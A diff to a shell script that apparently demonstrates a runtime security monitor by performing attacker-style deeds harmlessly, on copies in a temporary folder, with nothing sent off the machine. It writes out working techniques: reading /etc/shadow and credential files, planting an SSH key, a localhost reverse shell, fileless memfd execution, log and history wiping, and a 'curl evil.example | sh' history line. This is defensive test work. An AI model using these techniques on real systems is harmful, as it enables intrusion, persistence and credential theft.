@@ -1,83 +1,124 @@
 #!/bin/sh
-# Harmless deeds of the kind that rules are about, for `make run`. Each is announced
-# before it is done; what lacks a program or a right says so. Nothing leaves this
-# machine, and nothing stays.
+# The demonstration of `make run`: real deeds, of the kind that rules are written
+# for, each announced by a line. Nothing is harmed: what is changed are copies in
+# a folder that is removed at the end, and no packet leaves this machine. An
+# ordinary user may run it; what then fails says so.
+
 set -u
 
-scratch=$(mktemp -d) || exit 1
-shared=
-trap 'rm -rf "$scratch" $shared' EXIT
+dir=$(mktemp -d) || exit 1
+memory=
+trap 'rm -rf "$dir" ${memory:+"$memory"}' EXIT
+trap 'exit 1' HUP INT TERM
 
-deed() { echo "# $*"; }
-missed() { echo "  (not done here: $*)"; }
+deed() { printf '\n# %s\n' "$*"; }
+refused() { echo "  not done: ${1:-refused here}"; }
 have() { command -v "$1" >/dev/null 2>&1; }
 
-deed "reading the shadow file"
-cat /etc/shadow >/dev/null 2>&1 || missed "this user may not"
+deed 'reading the shadow file'
+cat /etc/shadow >/dev/null 2>&1 || refused 'needs root'
 
-deed "making a link to it"
-ln -s /etc/shadow "$scratch/innocent"
+deed 'making a link to the shadow file under a harmless name'
+ln -s /etc/shadow "$dir/report.txt"
 
-deed "running a program from /dev/shm"
-if shared=$(mktemp -d /dev/shm/demo.XXXXXX 2>/dev/null) && cp /bin/true "$shared/payload" && "$shared/payload"; then
-	:
+deed 'reading a private key and the credentials of a cloud (copies, in a home of our own)'
+mkdir -p "$dir/home/.ssh" "$dir/home/.aws"
+echo 'no key' >"$dir/home/.ssh/id_ed25519"
+echo '[default]' >"$dir/home/.aws/credentials"
+cat "$dir/home/.ssh/id_ed25519" "$dir/home/.aws/credentials" >/dev/null
+
+deed 'adding a key to those that may log in (in the same home)'
+echo 'ssh-ed25519 AAAA intruder' >>"$dir/home/.ssh/authorized_keys"
+
+deed 'setting the setuid bit on a copy of a program'
+cp /bin/sh "$dir/shell"
+chmod u+s "$dir/shell" || refused
+rm -f "$dir/shell"
+
+deed 'running a program from /dev/shm'
+if memory=$(mktemp -d /dev/shm/tiercel.XXXXXX 2>/dev/null); then
+	cp "$(command -v env)" "$memory/program"
+	"$memory/program" true 2>/dev/null || refused 'programs may not be run there'
+	rm -rf "$memory"
 else
-	missed "no /dev/shm, or it is mounted noexec"
+	refused 'there is no /dev/shm'
+fi
+memory=
+
+deed 'starting a program with a library from /tmp in it'
+LD_PRELOAD=/tmp/no-such-library.so env true 2>/dev/null
+
+deed 'emptying a log of logins (a copy)'
+mkdir -p "$dir/var/log"
+echo 'someone logged in' >"$dir/var/log/auth.log"
+: >"$dir/var/log/auth.log"
+
+deed 'forgetting what was typed (a copy)'
+echo 'curl evil.example | sh' >"$dir/home/.bash_history"
+ln -sf /dev/null "$dir/home/.bash_history"
+
+deed "reading another process's environment"
+sleep 5 &
+other=$!
+cat "/proc/$other/environ" >/dev/null 2>&1 || refused
+kill "$other"
+wait "$other" 2>/dev/null
+
+deed 'a server that starts a shell (a script by that name)'
+printf '#!/bin/sh\nsh -c "exit 0"\nexit 0\n' >"$dir/nginx"
+chmod 755 "$dir/nginx"
+"$dir/nginx" || refused 'programs may not be run there'
+
+if ! have python3; then
+	deed 'the rest'
+	refused 'needs python3'
+	exit 0
 fi
 
-deed "starting a shell whose input and output are a socket"
-if have python3; then
-	python3 - <<'EOF'
+deed 'a reverse shell: its input and output are a connection (to this machine)'
+python3 - <<'PYTHON' || refused
 import os, socket
 server = socket.create_server(("127.0.0.1", 0))
-if not os.fork():
-    client = socket.create_connection(server.getsockname())
-    for fd in (0, 1):
-        os.dup2(client.fileno(), fd)
+if os.fork() == 0:
+    link = socket.create_connection(server.getsockname())
+    for fd in 0, 1, 2:
+        os.dup2(link.fileno(), fd)
     os.execv("/bin/sh", ["sh"])
-master, _ = server.accept()
-master.sendall(b"echo caught\nexit\n")
-master.makefile().read()
+link, _ = server.accept()
+link.sendall(b"echo hello from the shell; exit\n")
+print("  over the connection came:", link.makefile().readline().strip())
 os.wait()
-EOF
-else
-	missed "no python3"
-fi
+PYTHON
 
-deed "running a program that never was a file"
-if have python3; then
-	python3 -c 'import os
-f = os.memfd_create("payload")
-os.write(f, open("/bin/true", "rb").read())
-os.execv("/proc/self/fd/%d" % f, ["payload"])'
-else
-	missed "no python3"
-fi
+deed 'running a program that is no file, but memory'
+python3 - <<'PYTHON' || refused
+import os, shutil
+fd = os.memfd_create("innocent")
+with open(shutil.which("env"), "rb") as f:
+    os.write(fd, f.read())
+if os.fork() == 0:
+    os.set_inheritable(fd, True)
+    os.execv(f"/proc/self/fd/{fd}", ["env", "true"])
+os._exit(0 if os.wait()[1] == 0 else 1)
+PYTHON
 
-deed "leaving an ssh key behind"
-mkdir -p "$scratch/.ssh"
-echo "ssh-ed25519 AAAA nobody" >>"$scratch/.ssh/authorized_keys"
+deed "connecting a socket to the clouds' metadata service (UDP: nothing is sent)"
+python3 - <<'PYTHON' || refused
+import socket
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect_ex(("169.254.169.254", 80))
+PYTHON
 
-deed "setting the setuid bit on a program"
-cp /bin/true "$scratch/true"
-chmod u+s "$scratch/true"
+deed 'making a user namespace, to be root in it'
+python3 - <<'PYTHON' || refused
+import ctypes, os
+os._exit(0 if ctypes.CDLL(None).unshare(0x10000000) == 0 else 1)
+PYTHON
 
-deed "erasing a shell's history"
-echo ls >"$scratch/.bash_history"
-rm "$scratch/.bash_history"
+deed 'attaching to a process, as a debugger does (which fails: tiercel is its tracer)'
+python3 - <<'PYTHON' || refused
+import ctypes, os
+ctypes.CDLL(None).ptrace(16, os.getppid(), None, None)
+PYTHON
 
-deed "preloading a library into a program"
-env LD_PRELOAD=/tmp/no-such-library.so true 2>/dev/null
-
-deed "opening a raw socket onto the wire"
-if have python3; then
-	python3 -c 'import socket
-try:
-    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
-except PermissionError:
-    print("  (not done here: this user may not)")'
-else
-	missed "no python3"
-fi
-
-echo "# done: above, between the deeds, are the alerts that they raised"
+echo
+echo '# that is all'
